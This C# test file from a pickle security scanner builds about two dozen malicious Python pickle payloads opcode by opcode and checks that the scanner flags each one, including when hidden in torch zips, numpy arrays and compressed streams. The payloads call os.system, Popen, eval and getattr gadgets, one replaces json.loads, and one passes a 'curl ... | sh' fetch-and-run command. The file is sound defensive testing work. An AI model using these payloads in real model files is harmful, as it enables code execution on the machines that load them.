using DynaHug.Shared.Static;
using static DynaHug.Shared.Tests.Static.Bytes;

namespace DynaHug.Shared.Tests.Static;

/// <summary>Attacks written by hand, opcode by opcode: read only, never loaded.</summary>
public sealed class MaliciousPickleSpecs
{
    private static readonly byte[] Id = [.. Text("id"), 0x85];
    private static readonly byte[] Import = Of("cbuiltins\n__import__\n", Text("os"), 0x85, "R");
    private static readonly byte[] Call = Of(0x80, 4, "cposix\nsystem\n", Id, "R.");

    public static TheoryData<string, byte[], string> Attacks => new()
    {
        { "plain call", Call, "posix.system(\"id\")" },
        { "protocol 0 INST", Of("(S'id'\nios\nsystem\n."), "os.system(\"id\")" },
        { "OBJ", Of("(cos\nsystem\n", Text("id"), "o."), "os.system(\"id\")" },
        { "NEWOBJ", Of(0x80, 2, "csubprocess\nPopen\n", Id, 0x81, "."), "subprocess.Popen(\"id\")" },
        { "Python 2 names", Of(0x80, 2, "ccommands\nPopen\n", Id, "R."), "commands.Popen(\"id\")" },
        { "Python 2 builtins", Of(0x80, 2, "c__builtin__\neval\n", Id, "R."), "__builtin__.eval(\"id\")" },
        { "names from the memo", Of(0x80, 4, Text("system"), "q", 7, "0", Text("posix"), "q", 3, "0h", 3, "h", 7, 0x93, Id, "R."), "posix.system(\"id\")" },
        { "getattr on an import", Of(0x80, 4, "cbuiltins\ngetattr\n", Import, Text("system"), 0x86, "R", Id, "R."), "os.system(\"id\")" },
        { "attrgetter on an import", Of(0x80, 4, "coperator\nattrgetter\n", Text("system"), 0x85, "R", Import, 0x85, "R", Id, "R."), "os.system(\"id\")" },
        { "methodcaller on an import", Of(0x80, 4, "coperator\nmethodcaller\n", Text("system"), Text("id"), 0x86, "R", Import, 0x85, "R."), "os.system(\"id\")" },
        { "partial", Of(0x80, 4, "cfunctools\npartial\ncos\nsystem\n", Text("id"), 0x86, "R)R."), "os.system(\"id\")" },
        { "dotted walk", Of(0x80, 4, Text("torch.serialization"), Text("os.system"), 0x93, Id, "R."), "torch.serialization.os.system(\"id\")" },
        { "module kept by another module", Of(0x80, 4, "cbuiltins\ngetattr\nctorch.hub\nos\n", Text("system"), 0x86, "R", Id, "R."), "os.system(\"id\")" },
        { "walk to the interpreter", Of(0x80, 4, "cbuiltins\ngetattr\nctorch\nnn\n", Text("__globals__"), 0x86, "R."), "builtins.getattr(torch.nn, \"__globals__\")" },
        { "named, not called", Of(0x80, 4, "cos\nsystem\n."), "os.system" },
        { "before a break", Of(0x80, 4, "cos\nsystem\n", Id, "R", "X", 0xff, 0xff, 0xff, 0x7f), "os.system(\"id\")" },
        { "bytes handed to a loader", Of(0x80, 4, "ctorch.storage\n_load_from_bytes\n", "C", Call.Length, Call, 0x85, "R."), "posix.system(\"id\")" },
        { "second stream", Of("N.", Call), "posix.system(\"id\")" },
        { "stream behind a gap", Of(0x80, 2, "N.", new byte[300], Call), "posix.system(\"id\")" },
        { "stream behind a broken one", Of(0x80, 2, "N", 0xff, 0xff, Call), "posix.system(\"id\")" },
        { "function by value", Of(0x80, 4, "ccloudpickle.cloudpickle\n_make_function\n)R)R."), "calls a function whose code is in the file: cloudpickle.cloudpickle._make_function()()" },
        { "state for a global", Of(0x80, 4, "cjson\ndecoder\n}", Text("loads"), "NsbN."), "changes json.decoder in place: {\"loads\": None}" },
        { "a library's function replaced", Of(0x80, 4, "cbuiltins\nsetattr\n(cjson\ndecoder\n", Text("loads"), "NtR."), "changes json.decoder in place: (json.decoder, \"loads\", None)" },
        { "a module's function replaced, by way of dill", Of(0x80, 4, "cdill._dill\n_setattr\n(", "cbuiltins\n__import__\n", Text("json"), 0x85, "R", Text("loads"), "NtR."), "changes json in place: (json, \"loads\", None)" },
        { "shell for an unknown callable", Of(0x80, 4, "cacme.boot\nrun\n", Text("curl -s http://127.0.0.1/i | sh"), 0x85, "R."), "passes a shell command to an unknown callable: acme.boot.run(\"curl -s http://127.0.0.1/i | sh\")" },
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Finds_the_attack_and_has_it_traced(string attack, byte[] content, string evidence)
    {
        var report = Read(content);
        report.Outcome.ShouldBeNull(attack);
        report.Findings.Where(finding => finding.Severity == Severity.Dangerous).Select(finding => finding.Evidence).ShouldContain(evidence);
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Finds_the_attack_inside_a_torch_zip_and_an_object_array(string attack, byte[] content, string evidence)
    {
        Evidence(Zip(("model/data.pkl", content), ("model/version", Of("3\n")))).ShouldContain(evidence, attack);
        var header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n";
        Evidence(Of(0x93, "NUMPY", 1, 0, header.Length, 0, header, content)).ShouldContain(evidence, attack);
    }

    [Fact]
    public void Takes_the_filled_cell_of_a_closure_for_what_it_is() =>
        Read(Of(0x80, 4, "cbuiltins\nsetattr\n(cdill._dill\n_create_cell\nN", 0x85, "R", Text("cell_contents"), "NtR."))
            .Findings.ShouldAllBe(finding => finding.Severity != Severity.Dangerous);

    [Fact]
    public void Finds_the_attack_in_a_compressed_file()
    {
        using var packed = new MemoryStream();
        using (var zlib = new System.IO.Compression.ZLibStream(packed, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(Call);
        }

        var report = Read(packed.ToArray());
        report.Format.ShouldBe(FileFormat.Joblib);
        report.Findings.ShouldContain(new StaticFinding("dangerous-global", Severity.Dangerous, "posix.system(\"id\")"));
    }

    [Fact]
    public void A_pickle_in_front_of_a_zip_is_read_and_traced_and_so_is_the_zip()
    {
        var report = Read([.. Call, .. Zip(("m/data.pkl", Of("N.")))]);
        report.Outcome.ShouldBeNull();
        report.Format.ShouldBe(FileFormat.Pickle);
        report.Structure.Pickles.ShouldBe(2);
        report.Findings.Select(finding => finding.Id).ShouldBe(["dangerous-global", "polyglot"]);
    }

    [Fact]
    public void No_flood_of_other_findings_hides_a_dangerous_one()
    {
        var flood = Enumerable.Range(0, 5000).SelectMany(index => Of($"cacme\nf{index}\n)R0"));
        var report = Read([0x80, 4, .. flood, .. Call[2..]]);
        report.Findings[0].Evidence.ShouldBe("posix.system(\"id\")");
        report.Findings.Count.ShouldBe(new StaticOptions().MaxFindings);
        report.Globals.Count.ShouldBe(new StaticOptions().MaxGlobals);
    }

    [Fact]
    public void Evidence_is_printable_and_bounded()
    {
        var report = Read(Of(0x80, 4, "cos\nsystem\nX", Int32(100_000), new string('\u001b', 100_000), 0x85, "R."));
        var evidence = report.Findings.ShouldHaveSingleItem().Evidence;
        evidence.Length.ShouldBeLessThanOrEqualTo(300);
        evidence.ShouldNotContain('\u001b');
    }

    private static IEnumerable<string> Evidence(byte[] content) => Read(content).Findings.Select(finding => finding.Evidence);
}
